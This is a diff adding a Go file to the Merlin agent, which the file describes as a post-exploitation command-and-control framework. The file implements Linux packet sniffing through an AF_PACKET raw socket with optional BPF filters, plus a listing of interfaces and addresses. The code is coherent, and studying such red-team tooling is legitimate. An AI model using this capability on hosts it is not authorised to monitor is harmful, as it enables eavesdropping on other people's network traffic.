@@ -0,0 +1,152 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"net"
+	"strings"
+	"time"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/unix"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/pcap"
+)
+
+// packetSocket captures packets with an AF_PACKET socket, which requires root or the CAP_NET_RAW capability
+type packetSocket struct {
+	fd     int
+	buffer []byte
+}
+
+// openCapture opens an AF_PACKET socket on the interface, or every interface for "any", and attaches the compiled BPF
+// program. Linux doesn't compile filter expressions so the filter must be the output of tcpdump -dd
+func openCapture(device, filter string, snaplen int) (capture, error) {
+	var program []pcap.Instruction
+	if filter != "" {
+		if !pcap.IsProgram(filter) {
+			return nil, fmt.Errorf("filter expressions can't be compiled on Linux, provide the output of: tcpdump -dd '%s'", filter)
+		}
+		var err error
+		program, err = pcap.ParseProgram(filter)
+		if err != nil {
+			return nil, err
+		}
+	}
+
+	var index int
+	if strings.ToLower(device) != "any" {
+		iface, err := net.InterfaceByName(device)
+		if err != nil {
+			return nil, fmt.Errorf("there was an error getting the %s interface: %s", device, err)
+		}
+		index = iface.Index
+	}
+
+	protocol := htons(unix.ETH_P_ALL)
+	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(protocol))
+	if err != nil {
+		return nil, fmt.Errorf("there was an error creating the packet socket: %s", err)
+	}
+	// The filter is attached before binding so that no unfiltered packets are queued
+	if len(program) > 0 {
+		filters := make([]unix.SockFilter, len(program))
+		for i, instruction := range program {
+			filters[i] = unix.SockFilter{Code: instruction.Op, Jt: instruction.Jt, Jf: instruction.Jf, K: instruction.K}
+		}
+		err = unix.SetsockoptSockFprog(fd, unix.SOL_SOCKET, unix.SO_ATTACH_FILTER, &unix.SockFprog{Len: uint16(len(filters)), Filter: &filters[0]})
+		if err != nil {
+			_ = unix.Close(fd)
+			return nil, fmt.Errorf("there was an error attaching the BPF filter: %s", err)
+		}
+	}
+	err = unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: protocol, Ifindex: index})
+	if err != nil {
+		_ = unix.Close(fd)
+		return nil, fmt.Errorf("there was an error binding the packet socket to %s: %s", device, err)
+	}
+	timeout := unix.NsecToTimeval(pcapTimeout.Nanoseconds())
+	err = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &timeout)
+	if err != nil {
+		_ = unix.Close(fd)
+		return nil, fmt.Errorf("there was an error setting the packet socket's read timeout: %s", err)
+	}
+	return &packetSocket{fd: fd, buffer: make([]byte, snaplen)}, nil
+}
+
+// Read returns the next packet or nil data when the read timed out
+func (s *packetSocket) Read() ([]byte, int, time.Time, error) {
+	// MSG_TRUNC returns the packet's length on the wire even when it was truncated to the buffer
+	n, _, err := unix.Recvfrom(s.fd, s.buffer, unix.MSG_TRUNC)
+	if err == unix.EAGAIN || err == unix.EINTR {
+		return nil, 0, time.Time{}, nil
+	}
+	if err != nil {
+		return nil, 0, time.Time{}, err
+	}
+	captured := n
+	if captured > len(s.buffer) {
+		captured = len(s.buffer)
+	}
+	data := make([]byte, captured)
+	copy(data, s.buffer)
+	return data, n, time.Now(), nil
+}
+
+// LinkType returns Ethernet, which is also the header Linux gives loopback packets
+func (s *packetSocket) LinkType() uint32 {
+	return pcap.LINKTYPE_ETHERNET
+}
+
+// Close closes the packet socket
+func (s *packetSocket) Close() error {
+	return unix.Close(s.fd)
+}
+
+// captureInterfaces lists the interfaces and their addresses
+func captureInterfaces() (string, error) {
+	ifaces, err := net.Interfaces()
+	if err != nil {
+		return "", fmt.Errorf("there was an error getting the interfaces: %s", err)
+	}
+	list := "any\n"
+	for _, iface := range ifaces {
+		var addresses []string
+		if addrs, errAddrs := iface.Addrs(); errAddrs == nil {
+			for _, addr := range addrs {
+				addresses = append(addresses, addr.String())
+			}
+		}
+		list += fmt.Sprintf("%s %s\n", iface.Name, strings.Join(addresses, " "))
+	}
+	return list, nil
+}
+
+// htons converts the 16-bit integer to network byte order
+func htons(i uint16) uint16 {
+	var b [2]byte
+	b[0], b[1] = byte(i>>8), byte(i)
+	return *(*uint16)(unsafe.Pointer(&b[0]))
+}